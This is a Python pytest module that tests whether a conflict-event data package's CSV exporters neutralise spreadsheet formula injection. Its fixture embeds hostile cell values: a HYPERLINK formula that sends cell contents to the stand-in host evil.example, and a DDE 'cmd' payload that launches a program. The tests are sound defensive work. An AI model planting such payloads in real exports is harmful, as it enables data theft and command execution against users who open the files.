"""Formula injection (issue 10, failure 7): no CSV export writes a cell a spreadsheet runs."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from khaldun.export import write_acled, write_ucdp
from khaldun.export.common import safe_cell, write_csv
from khaldun.records import Actor, Claim, Event, Fatalities, Location, MergedEvent
from khaldun.serve.formats import FLAT_COLUMNS, flat_row

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def hostile() -> MergedEvent:
    """An event whose place, actor and quote came from a hostile feed."""
    quote = "+SUM(1,2) strikes were reported."
    ev = Event(
        event_type="Battles",
        sub_event_type="Armed clash",
        date_start=date(2012, 3, 4),
        date_end=date(2012, 3, 4),
        time_precision=1,
        location=Location(FORMULA, None, "@town", "-admin", "SY", -12.5, -3.25, 1),
        actor1=Actor("=cmd|' /C calc'!A0", 2),
        fatalities=Fatalities(3, 3),  # GED leaves out events without deaths
        claims=[
            Claim("@source", "occurred", None, quote, doc_id="d"),
            Claim("@source", "fatalities", 3, quote, doc_id="d"),
        ],
        doc_id="d",
        report_id="d:0",
    )
    return MergedEvent("ev-1", ev, [ev])


def _flat(events, out):
    return write_csv(events, out, list(FLAT_COLUMNS), flat_row)


@pytest.mark.parametrize("writer", [write_acled, write_ucdp, _flat])
def test_no_cell_starts_a_formula(writer):
    out = io.StringIO()
    writer([hostile()], out)
    cells = [v for row in csv.DictReader(io.StringIO(out.getvalue())) for v in row.values()]
    assert any(c.startswith(("'=", "'@", "'-")) for c in cells)  # kept as text, made inert
    numbers = {"-12.5", "-3.25"}
    assert not [c for c in cells if c and c[0] in "=+@-" and c not in numbers]


def test_safe_cell_leaves_numbers_alone():
    assert safe_cell(-3.25) == -3.25 and safe_cell(None) is None
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("Homs") == "Homs"
